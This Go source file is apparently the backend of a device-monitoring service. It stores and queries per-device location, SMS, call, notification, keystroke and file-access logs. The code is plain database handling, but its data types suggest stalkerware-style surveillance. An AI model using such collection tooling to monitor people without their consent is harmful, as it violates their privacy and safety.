package console

import (
	"time"

	"go.uber.org/zap"

	"fleetpanel.dev/device-console-service/pkg/common"
	"fleetpanel.dev/device-console-service/pkg/models"
)

func (c *Console) logsLogger() *zap.Logger {
	return common.GetLoggerWith(
		common.LoggerNameConsoleCore,
		zap.String(common.LoggerFieldCategory, common.LoggerCategoryLogs),
	)
}

// requireDevice checks referential integrity explicitly; log tables carry
// no foreign key constraints of their own.
func (c *Console) requireDevice(deviceID string) error {
	_, err := c.get(deviceID)
	return err
}

func defaultTimestamp(ts time.Time) time.Time {
	if ts.IsZero() {
		return time.Now().UTC()
	}
	return ts
}

func ingestEntry[T any](c *Console, deviceID string, entry *T) error {
	if err := c.requireDevice(deviceID); err != nil {
		return err
	}
	return c.Db.Conn.Create(entry).Error
}

// queryEntries serves the time-window read path: entries at or after the
// cutoff, newest first, capped at limit. The per-table composite index on
// (device_id, timestamp) keeps this bounded per device.
func queryEntries[T any](c *Console, deviceID string, cutoff time.Time, limit int) ([]T, error) {
	if err := c.requireDevice(deviceID); err != nil {
		return nil, err
	}
	var entries []T
	err := c.Db.Conn.
		Where("device_id = ? AND timestamp >= ?", deviceID, cutoff).
		Order("timestamp desc").
		Limit(limit).
		Find(&entries).Error
	return entries, err
}

func (c *Console) ingestLocation(deviceID string, entry *models.DeviceLocation) error {
	entry.DeviceID = deviceID
	entry.Timestamp = defaultTimestamp(entry.Timestamp)
	if err := ingestEntry(c, deviceID, entry); err != nil {
		return err
	}
	c.logsLogger().Info("Logged location", zap.String("device_id", deviceID))
	return nil
}

func (c *Console) ingestSms(deviceID string, entry *models.SmsLog) error {
	entry.DeviceID = deviceID
	entry.Timestamp = defaultTimestamp(entry.Timestamp)
	if err := ingestEntry(c, deviceID, entry); err != nil {
		return err
	}
	c.logsLogger().Info("Logged sms", zap.String("device_id", deviceID))
	return nil
}

func (c *Console) ingestCall(deviceID string, entry *models.CallLog) error {
	entry.DeviceID = deviceID
	entry.Timestamp = defaultTimestamp(entry.Timestamp)
	if err := ingestEntry(c, deviceID, entry); err != nil {
		return err
	}
	c.logsLogger().Info("Logged call", zap.String("device_id", deviceID))
	return nil
}

func (c *Console) ingestNotification(deviceID string, entry *models.NotificationLog) error {
	entry.DeviceID = deviceID
	entry.Timestamp = defaultTimestamp(entry.Timestamp)
	if err := ingestEntry(c, deviceID, entry); err != nil {
		return err
	}
	c.logsLogger().Info("Logged notification", zap.String("device_id", deviceID))
	return nil
}

func (c *Console) ingestKeylog(deviceID string, entry *models.KeyLog) error {
	entry.DeviceID = deviceID
	entry.Timestamp = defaultTimestamp(entry.Timestamp)
	if err := ingestEntry(c, deviceID, entry); err != nil {
		return err
	}
	c.logsLogger().Info("Logged keylog", zap.String("device_id", deviceID))
	return nil
}

func (c *Console) ingestFile(deviceID string, entry *models.FileLog) error {
	entry.DeviceID = deviceID
	entry.Timestamp = defaultTimestamp(entry.Timestamp)
	if err := ingestEntry(c, deviceID, entry); err != nil {
		return err
	}
	c.logsLogger().Info("Logged file access", zap.String("device_id", deviceID))
	return nil
}

type ILogsImpl struct {
	console *Console
}

func (il *ILogsImpl) IngestLocation(deviceID string, entry *models.DeviceLocation) error {
	return il.console.ingestLocation(deviceID, entry)
}

func (il *ILogsImpl) IngestSms(deviceID string, entry *models.SmsLog) error {
	return il.console.ingestSms(deviceID, entry)
}

func (il *ILogsImpl) IngestCall(deviceID string, entry *models.CallLog) error {
	return il.console.ingestCall(deviceID, entry)
}

func (il *ILogsImpl) IngestNotification(deviceID string, entry *models.NotificationLog) error {
	return il.console.ingestNotification(deviceID, entry)
}

func (il *ILogsImpl) IngestKeylog(deviceID string, entry *models.KeyLog) error {
	return il.console.ingestKeylog(deviceID, entry)
}

func (il *ILogsImpl) IngestFile(deviceID string, entry *models.FileLog) error {
	return il.console.ingestFile(deviceID, entry)
}

func (il *ILogsImpl) QueryLocations(deviceID string, cutoff time.Time, limit int) ([]models.DeviceLocation, error) {
	return queryEntries[models.DeviceLocation](il.console, deviceID, cutoff, limit)
}

func (il *ILogsImpl) QuerySms(deviceID string, cutoff time.Time, limit int) ([]models.SmsLog, error) {
	return queryEntries[models.SmsLog](il.console, deviceID, cutoff, limit)
}

func (il *ILogsImpl) QueryCalls(deviceID string, cutoff time.Time, limit int) ([]models.CallLog, error) {
	return queryEntries[models.CallLog](il.console, deviceID, cutoff, limit)
}

func (il *ILogsImpl) QueryNotifications(deviceID string, cutoff time.Time, limit int) ([]models.NotificationLog, error) {
	return queryEntries[models.NotificationLog](il.console, deviceID, cutoff, limit)
}

func (il *ILogsImpl) QueryKeylogs(deviceID string, cutoff time.Time, limit int) ([]models.KeyLog, error) {
	return queryEntries[models.KeyLog](il.console, deviceID, cutoff, limit)
}

func (il *ILogsImpl) QueryFiles(deviceID string, cutoff time.Time, limit int) ([]models.FileLog, error) {
	return queryEntries[models.FileLog](il.console, deviceID, cutoff, limit)
}

func (c *Console) GetILogs() ILogs {
	return &ILogsImpl{console: c}
}
